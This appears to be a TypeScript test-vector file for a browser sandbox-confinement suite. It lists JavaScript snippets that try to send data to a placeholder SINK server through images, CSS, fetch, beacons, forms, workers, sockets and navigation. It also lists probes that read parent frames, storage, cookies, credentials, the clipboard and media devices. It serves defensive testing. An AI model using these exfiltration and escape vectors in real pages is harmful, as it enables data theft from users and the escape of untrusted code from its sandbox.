/**
 * Attempts to leave the confinement of a page. Each is code that runs in the page: `SINK` is an address at a server
 * that must not receive requests, and `escaped(what)` reports access to something forbidden. Vectors without
 * `control: false` succeed in a frame without confinement; otherwise the suite would prove nothing.
 */
export interface Vector {
  name: string;
  code: string;
  /** Markup before the code. */
  html?: string;
  /** False when this Chromium blocks it even in a plain frame: it needs a permission, https or a user gesture. */
  control?: false;
}

const element = (tag: string, attributes: string): string =>
  `const e = document.createElement('${tag}'); Object.entries(${attributes}).forEach(([n, v]) => e.setAttribute(n, v)); document.body.append(e);`;
const style = (css: string): string =>
  `const e = document.createElement('style'); e.textContent = \`${css}\`; document.head.append(e); document.body.insertAdjacentHTML('beforeend', '<p class="x" style="display:list-item">x</p><input class="x">');`;
const svg = (inner: string): string =>
  `document.body.insertAdjacentHTML('beforeend', \`<svg width="50" height="50" xmlns="http://www.w3.org/2000/svg">${inner}</svg>\`);`;
/** Runs the code in a fresh realm with unmodified built-ins. */
const nested = (code: string): string =>
  `const e = document.createElement('iframe'); e.srcdoc = '<body><script>const SINK = ' + JSON.stringify(SINK) + ';(async () => {' + ${JSON.stringify(code)} + '})()<' + '/script>'; document.body.append(e);`;

/** Vectors that send data to a server. */
export const SENDING: readonly Vector[] = [
  { name: 'image', code: 'new Image().src = SINK;' },
  { name: 'image element', code: element('img', '{ src: SINK }') },
  { name: 'image srcset', code: element('img', '{ srcset: SINK + " 1x" }') },
  {
    name: 'image by innerHTML',
    code: 'document.body.insertAdjacentHTML("beforeend", `<img src="${SINK}">`);',
  },
  { name: 'image by document.write', code: 'document.write(`<img src="${SINK}">`);' },
  {
    name: 'picture source',
    code: 'document.body.insertAdjacentHTML("beforeend", `<picture><source srcset="${SINK}"><img></picture>`);',
  },
  { name: 'input image', code: element('input', '{ type: "image", src: SINK }') },
  { name: 'body background', code: 'document.body.setAttribute("background", SINK);' },
  {
    name: 'table background',
    code: 'document.body.insertAdjacentHTML("beforeend", `<table background="${SINK}"><tr><td>x</table>`);',
  },
  { name: 'style background', code: 'document.body.style.backgroundImage = `url(${SINK})`;' },
  { name: 'style sheet background', code: style('.x { background: url(${SINK}) }') },
  { name: 'style @import', code: style('@import url(${SINK});') },
  {
    name: 'style @import in a data: sheet',
    code: 'document.head.insertAdjacentHTML("beforeend", `<link rel="stylesheet" href="data:text/css,@import url(${SINK});">`);',
  },
  { name: 'style list image', code: style('.x { list-style-image: url(${SINK}) }') },
  { name: 'style border image', code: style('.x { border: 9px solid; border-image-source: url(${SINK}) }') },
  { name: 'style content', code: style('.x::before { content: url(${SINK}) }') },
  { name: 'style mask', code: style('.x { mask-image: url(${SINK}) }') },
  { name: 'style cursor', code: style('body { cursor: url(${SINK}), auto }'), control: false },
  { name: 'style image-set', code: style('.x { background: image-set(url(${SINK}) 1x) }') },
  {
    name: 'style of an attribute (one letter of a value at a time)',
    code: 'document.body.insertAdjacentHTML("beforeend", `<style>input[value^="s"] { background: url(${SINK}) }</style><input value="secret">`);',
  },
  {
    name: 'style in a shadow root',
    code: 'const e = document.createElement("div"); e.attachShadow({ mode: "open" }).innerHTML = `<style>p { background: url(${SINK}) }</style><p>x`; document.body.append(e);',
  },
  {
    name: 'constructed style sheet',
    code: 'const s = new CSSStyleSheet(); s.replaceSync(`body { background: url(${SINK}) }`); document.adoptedStyleSheets = [s];',
  },
  { name: 'font', code: style('@font-face { font-family: f; src: url(${SINK}) } .x { font-family: f }') },
  { name: 'font by script', code: 'new FontFace("f", `url(${SINK})`).load().catch(() => {});' },
  { name: 'link stylesheet', code: element('link', '{ rel: "stylesheet", href: SINK }') },
  {
    name: 'link alternate stylesheet',
    code: element('link', '{ rel: "alternate stylesheet", title: "t", href: SINK }'),
  },
  { name: 'link preload', code: element('link', '{ rel: "preload", as: "image", href: SINK }') },
  {
    name: 'link preload fetch',
    code: element('link', '{ rel: "preload", as: "fetch", crossorigin: "", href: SINK }'),
  },
  { name: 'link prefetch', code: element('link', '{ rel: "prefetch", href: SINK }') },
  { name: 'link modulepreload', code: element('link', '{ rel: "modulepreload", href: SINK }') },
  { name: 'link prerender', code: element('link', '{ rel: "prerender", href: SINK }'), control: false },
  { name: 'link icon', code: element('link', '{ rel: "icon", href: SINK }'), control: false },
  { name: 'link manifest', code: element('link', '{ rel: "manifest", href: SINK }'), control: false },
  {
    name: 'speculation rules',
    code: 'const e = document.createElement("script"); e.type = "speculationrules"; e.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [SINK], eagerness: "immediate" }] }); document.head.append(e);',
    control: false,
  },
  { name: 'script', code: element('script', '{ src: SINK }') },
  { name: 'script module', code: element('script', '{ type: "module", src: SINK }') },
  { name: 'script import()', code: 'import(SINK).catch(() => {});' },
  {
    name: 'script of an SVG',
    code: 'const e = document.createElementNS("http://www.w3.org/2000/svg", "svg"); const s = document.createElementNS("http://www.w3.org/2000/svg", "script"); s.setAttribute("href", SINK); e.append(s); document.body.append(e);',
  },
  {
    name: 'import map',
    html: '<script type="importmap">{"imports": {"thief": "SINK"}}</script>',
    code: 'import("thief").catch(() => {});',
  },
  {
    name: 'worker',
    code: 'new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(SINK)}, { mode: "no-cors" })`])));',
  },
  {
    name: 'worker importScripts',
    code: 'new Worker(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(SINK)})`])));',
  },
  {
    name: 'worker of modules',
    code: 'new Worker(URL.createObjectURL(new Blob([`import ${JSON.stringify(SINK)}`], { type: "text/javascript" })), { type: "module" });',
  },
  {
    name: 'worker socket',
    code: 'new Worker(URL.createObjectURL(new Blob([`new WebSocket(${JSON.stringify(SINK.replace("http", "ws"))})`])));',
  },
  {
    name: 'worker in a worker',
    code: 'const inner = `fetch(${JSON.stringify(SINK)}, { mode: "no-cors" })`; new Worker(URL.createObjectURL(new Blob([`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inner)}])))`])));',
  },
  {
    name: 'shared worker',
    code: 'new SharedWorker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(SINK)}, { mode: "no-cors" })`])));',
  },
  {
    name: 'audio worklet',
    code: 'new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(SINK).catch(() => {});',
  },
  { name: 'paint worklet', code: 'CSS.paintWorklet.addModule(SINK).catch(() => {});' },
  { name: 'fetch', code: 'fetch(SINK, { mode: "no-cors" }).catch(() => {});' },
  { name: 'fetch from a fresh realm', code: nested('fetch(SINK, { mode: "no-cors" }).catch(() => {});') },
  {
    name: 'fetch keepalive',
    code: nested(
      'fetch(SINK, { mode: "no-cors", keepalive: true, method: "POST", body: "secret" }).catch(() => {});',
    ),
  },
  { name: 'XMLHttpRequest', code: nested('const r = new XMLHttpRequest(); r.open("GET", SINK); r.send();') },
  { name: 'sendBeacon', code: nested('navigator.sendBeacon(SINK, "secret");') },
  { name: 'WebSocket', code: 'new WebSocket(SINK.replace("http", "ws"));' },
  { name: 'EventSource', code: 'new EventSource(SINK);' },
  {
    name: 'WebTransport',
    code: 'new WebTransport(SINK.replace("http:", "https:")).ready.catch(() => {});',
    control: false,
  },
  { name: 'fetchLater', code: nested('fetchLater(SINK, { activateAfter: 0 });'), control: false },
  {
    name: 'link ping',
    code: 'const e = document.createElement("a"); e.href = "about:blank"; e.setAttribute("ping", SINK); document.body.append(e); e.click();',
  },
  {
    name: 'form GET',
    code: 'document.body.insertAdjacentHTML("beforeend", `<form action="${SINK}"><input name="a" value="secret"></form>`); document.forms[0].submit();',
  },
  {
    name: 'form POST',
    code: 'document.body.insertAdjacentHTML("beforeend", `<form method="post" action="${SINK}"><input name="a" value="secret"></form>`); document.forms[0].requestSubmit();',
  },
  {
    name: 'form from a fresh realm',
    code: nested(
      'document.body.innerHTML = `<form action="${SINK}"><input name="a"></form>`; document.forms[0].submit();',
    ),
  },
  {
    name: 'form to another frame',
    code: 'document.body.insertAdjacentHTML("beforeend", `<iframe name="t"></iframe><form target="t" action="${SINK}"></form>`); HTMLFormElement.prototype.submit.call(document.forms[0]);',
  },
  {
    name: 'form in a new window',
    code: 'document.body.insertAdjacentHTML("beforeend", `<form target="_blank" action="${SINK}"></form>`); document.forms[0].submit();',
    control: false,
  },
  {
    name: 'button formaction',
    code: 'document.body.insertAdjacentHTML("beforeend", `<form><button formaction="${SINK}"></button></form>`); document.querySelector("form button").click();',
  },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0; url=SINK">', code: '' },
  {
    name: 'meta refresh by script',
    code: element('meta', '{ "http-equiv": "refresh", content: "0; url=" + SINK }'),
  },
  { name: 'location.href', code: 'location.href = SINK;' },
  { name: 'location.href, unseen', code: 'window["loc" + "ation"]["hr" + "ef"] = SINK;' },
  { name: 'location.assign', code: 'location.assign(SINK);' },
  { name: 'location.replace', code: 'location["replace"](SINK);' },
  { name: 'document.location', code: 'document["location"] = SINK;' },
  { name: 'location from a fresh realm', code: nested('location.href = SINK;') },
  { name: 'location of the frame around a fresh realm', code: nested('parent.location = SINK;') },
  {
    name: 'link click',
    code: 'document.body.insertAdjacentHTML("beforeend", `<a href="${SINK}">x</a>`); document.querySelector("a").click();',
  },
  {
    name: 'link click from a fresh realm',
    code: nested('document.body.innerHTML = `<a href="${SINK}">x</a>`; document.querySelector("a").click();'),
  },
  {
    name: 'link to _parent',
    code: nested(
      'document.body.innerHTML = `<a target="_parent" href="${SINK}">x</a>`; document.querySelector("a").click();',
    ),
  },
  {
    name: 'area click',
    code: 'document.body.insertAdjacentHTML("beforeend", `<map><area href="${SINK}"></map>`); document.querySelector("area").click();',
  },
  {
    name: 'link in an SVG',
    code:
      svg('<a href="${SINK}"><text y="20">x</text></a>') +
      'document.querySelector("svg a").dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));',
  },
  {
    name: 'download',
    code: nested(
      'document.body.innerHTML = `<a download href="${SINK}">x</a>`; document.querySelector("a").click();',
    ),
  },
  { name: 'window.open', code: nested('window.open(SINK);'), control: false },
  { name: 'iframe', code: element('iframe', '{ src: SINK }') },
  {
    name: 'iframe in an iframe',
    code: nested('document.body.innerHTML = `<iframe src="${SINK}"></iframe>`;'),
  },
  {
    name: 'iframe of a blob',
    code: 'const e = document.createElement("iframe"); e.src = URL.createObjectURL(new Blob([`<img src="${SINK}">`], { type: "text/html" })); document.body.append(e);',
  },
  {
    name: 'iframe of a data: URL',
    code: 'const e = document.createElement("iframe"); e.src = "data:text/html," + encodeURIComponent(`<img src="${SINK}">`); document.body.append(e);',
  },
  {
    name: 'iframe of a javascript: URL',
    code: 'const e = document.createElement("iframe"); e.src = "javascript:" + JSON.stringify(`<img src="${SINK}">`); document.body.append(e);',
  },
  {
    name: 'iframe with its sandbox taken off',
    code: 'const e = document.createElement("iframe"); e.setAttribute("sandbox", "allow-same-origin allow-scripts allow-top-navigation"); e.srcdoc = `<img src="${SINK}">`; document.body.append(e);',
  },
  {
    name: 'frameset',
    code: 'const e = document.createElement("frameset"); e.innerHTML = `<frame src="${SINK}">`; document.documentElement.append(e);',
  },
  { name: 'object', code: element('object', '{ data: SINK }') },
  { name: 'embed', code: element('embed', '{ src: SINK }') },
  { name: 'video', code: element('video', '{ src: SINK, preload: "auto" }') },
  { name: 'video poster', code: element('video', '{ poster: SINK }') },
  {
    name: 'video source',
    code: 'document.body.insertAdjacentHTML("beforeend", `<video preload="auto"><source src="${SINK}"></video>`);',
  },
  { name: 'audio', code: 'new Audio(SINK).load();' },
  {
    name: 'text track',
    code: 'document.body.insertAdjacentHTML("beforeend", `<video crossorigin="anonymous" src="data:video/mp4,x"><track default kind="captions" src="${SINK}"></video>`); document.querySelector("track").track.mode = "showing";',
  },
  { name: 'SVG image', code: svg('<image width="9" height="9" href="${SINK}"/>') },
  { name: 'SVG image xlink', code: svg('<image width="9" height="9" xlink:href="${SINK}"/>') },
  {
    name: 'SVG use',
    code: svg(
      '<use href="${location.origin === "null" ? SINK : "/" + SINK.split("/").slice(3).join("/")}#a"/>',
    ),
    control: false,
  },
  {
    name: 'SVG filter image',
    code: svg(
      '<filter id="f"><feImage href="${SINK}"/></filter><rect width="9" height="9" filter="url(#f)"/>',
    ),
  },
  {
    name: 'SVG foreign object',
    code: svg(
      '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${SINK}"/></foreignObject>',
    ),
  },
  {
    name: 'policy report',
    code: 'document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="Content-Security-Policy" content="img-src \'none\'; report-uri ${SINK}">`); new Image().src = "https://workspace.invalid/x.png";',
    control: false,
  },
  {
    name: 'base',
    code: 'document.head.insertAdjacentHTML("afterbegin", `<base href="${SINK}/">`); new Image().src = "x.png";',
  },
];

/** Vectors that reach into the application, or at resources that only it may use. */
export const REACHING: readonly Vector[] = [
  { name: 'the document around', code: 'parent.document.title; escaped();' },
  { name: 'the top document', code: 'top.document.title; escaped();' },
  { name: 'the frame element', code: 'if (frameElement !== null) escaped();' },
  {
    name: 'the address of the application',
    code: 'const text = [document.referrer, document.baseURI, document.URL].join(" "); if (text.includes(HOST)) escaped(text);',
  },
  { name: 'a global of the application', code: 'top.rolezeroHostile = 1; escaped();' },
  {
    name: 'the frames beside it',
    code: 'for (let i = 0; i < top.frames.length; i++) { let f = top.frames[i]; try { f.document.title; escaped(i); } catch {} }',
  },
  {
    name: 'localStorage',
    code: 'localStorage.setItem("rolezero-hostile", "1"); if (localStorage.getItem("rolezero-secret")) escaped();',
  },
  {
    name: 'sessionStorage',
    code: 'sessionStorage.setItem("rolezero-hostile", "1"); if (sessionStorage.getItem("rolezero-secret")) escaped();',
  },
  {
    name: 'localStorage from a fresh realm',
    code: 'const e = document.createElement("iframe"); e.srcdoc = "<script>try { parent.postMessage(\\"got \\" + localStorage.getItem(\\"rolezero-secret\\"), \\"*\\") } catch {}<" + "/script>"; addEventListener("message", ({ data }) => { if (String(data) === "got key") escaped(data); }); document.body.append(e);',
  },
  { name: 'cookies', code: 'if (document.cookie.includes("rolezero-secret")) escaped(document.cookie);' },
  { name: 'cookie store', code: 'if ((await cookieStore.getAll()).length > 0) escaped();' },
  {
    name: 'IndexedDB',
    code: 'await new Promise((resolve, reject) => { const r = indexedDB.open("rolezero-secret"); r.onsuccess = resolve; r.onerror = reject; }); escaped();',
  },
  { name: 'IndexedDB databases', code: 'if ((await indexedDB.databases()).length > 0) escaped();' },
  { name: 'caches', code: 'await caches.open("rolezero-hostile"); escaped();' },
  { name: 'the private file system', code: 'await navigator.storage.getDirectory(); escaped();' },
  {
    name: 'storage access',
    code: 'await document.requestStorageAccess(); localStorage.getItem("rolezero-secret") && escaped();',
  },
  { name: 'a service worker', code: 'await navigator.serviceWorker.getRegistrations(); escaped();' },
  { name: 'web locks', code: 'await navigator.locks.query(); escaped();' },
  {
    name: 'geolocation',
    code: 'await new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)); escaped();',
    control: false,
  },
  {
    name: 'the clipboard', // Pages have their own, empty one: the user's is behind the built-in method.
    code: "const own = await navigator.clipboard.readText(); const real = await Object.getPrototypeOf(navigator).__lookupGetter__('clipboard')?.call(navigator)?.readText().then(() => true, () => false); if (own !== '' || (delete navigator.clipboard && await navigator.clipboard.readText().then(() => true, () => false)) || real) escaped();",
    control: false,
  },
  {
    name: 'camera and microphone',
    code: 'await navigator.mediaDevices.getUserMedia({ audio: true }); escaped();',
    control: false,
  },
  {
    name: 'notifications',
    code: 'if ((await Notification.requestPermission()) === "granted") escaped();',
    control: false,
  },
  {
    name: 'credentials',
    code: 'if (await navigator.credentials.get({ password: true })) escaped();',
    control: false,
  },
  { name: 'the screen', code: 'await navigator.mediaDevices.getDisplayMedia(); escaped();', control: false },
  {
    name: 'full screen',
    code: 'await document.documentElement.requestFullscreen(); escaped();',
    control: false,
  },
  { name: 'files of the machine', code: 'await showOpenFilePicker(); escaped();', control: false },
  {
    name: 'speech',
    code: 'const s = new webkitSpeechRecognition(); await new Promise((resolve, reject) => { s.onstart = resolve; s.onerror = reject; s.start(); }); escaped();',
    control: false,
  },
  {
    name: 'the driver’s port',
    html: '<script>const stolen = []; addEventListener("message", (event) => { if (event.ports.length) stolen.push(...event.ports); }, true); onmessage = (event) => { if (event.ports.length) stolen.push(...event.ports); };</script>',
    code: 'await new Promise((resolve) => setTimeout(resolve, 500)); if (stolen.length > 0) escaped();',
    control: false,
  },
  {
    name: 'the driver’s key',
    code: 'if (document.documentElement.outerHTML.includes("ROLEZERO" + "_DRIVER=")) escaped(); if (ROLEZERO_DRIVER.nonce) escaped();',
    control: false,
  },
];
